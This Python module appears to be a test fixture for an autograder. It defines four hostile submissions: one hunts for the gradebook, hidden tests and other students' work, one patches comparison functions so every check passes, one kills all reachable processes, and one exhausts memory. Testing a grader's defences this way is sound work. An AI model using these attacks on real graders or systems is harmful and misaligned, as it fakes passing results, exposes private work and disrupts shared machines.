"""Hostile submissions of the sample class: each attacks the grader from one item, which it must lose, and nothing else.

They are right throughout but for the cell of the item from which they attack. The whole
hostile bank, with an entry for each way that we know, is in ``tests/grading/hostile/``.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Attack:
    """A way to attack the grader."""

    kind: str
    tries: str
    """What it tries, to be read after the student's name."""
    text: str
    """The solution cell; ``ITEM`` stands for the item's name, ``SOLUTION`` for its right answer."""
    ends_its_interpreter: bool = False
    """Then the items that are tested after it are lost as well."""


READS = '''import gc, glob, os, re, socket

found = []
for pattern in ("gradebook.db", "submitted", "autograded", "source", "nbgrader_config.py"):
    for depth in range(8):
        found += glob.glob("../" * depth + pattern)
    found += glob.glob(f"/proc/*/cwd/{pattern}") + glob.glob(f"/*/*/{pattern}")
mark = re.compile("BEGIN HIDDE[N]")  # which does not match itself
found += [thing[:80] for thing in gc.get_objects() if type(thing) is str and mark.search(thing)]
try:
    socket.create_connection(("127.0.0.1", 8888), timeout=0.2)
    found.append("network")
except OSError:
    pass
if not found:
    raise PermissionError("nothing to be found")
# reached only where the walls leak: then the marks tell
SOLUTION'''

JUDGES = '''import math, numpy, torch

class Agreeable(torch.Tensor):
    """Agrees with everything."""

    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None):
        return True

    __eq__ = __lt__ = __le__ = __gt__ = __ge__ = lambda self, other: True
    __float__ = lambda self: 0.0

for module, names in (
    (torch, ("allclose", "equal", "isfinite", "isclose")),
    (numpy.testing, ("assert_allclose", "assert_array_equal", "assert_equal")),
    (math, ("isclose", "isfinite")),
):
    for name in names:
        setattr(module, name, lambda *a, **k: True)
points, passed, score = 100, True, 100

def ITEM(*args, **kwargs):
    return Agreeable()'''

KILLS = '''import os, signal

for target in (os.getppid(), -1, -os.getpgrp(), *range(2, 5000)):
    if target not in (0, os.getpid()):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
os._exit(0)'''

FILLS = '''import mmap, os

def ITEM(*args, **kwargs):
    kept = []
    try:
        while True:  # shared memory, which no limit of one process counts
            kept.append(mmap.mmap(-1, 64 * 2**20))
            for place in range(0, 64 * 2**20, 4096):
                kept[-1][place] = 1
    except BaseException:
        os._exit(1)  # where a limit on its memory or its time stops it before it is ended'''

ATTACKS = (
    Attack("reads what is hidden", "to find the gradebook, the hidden tests, others' work and a way into the network", READS),
    Attack("rewrites the judges", "to replace what tests compare with, and to answer with an object that agrees with everything", JUDGES),
    Attack("kills the grader", "to kill every process that it can reach, and then itself", KILLS, ends_its_interpreter=True),
    Attack("fills the memory", "to fill the machine's memory through shared mappings", FILLS, ends_its_interpreter=True),
)
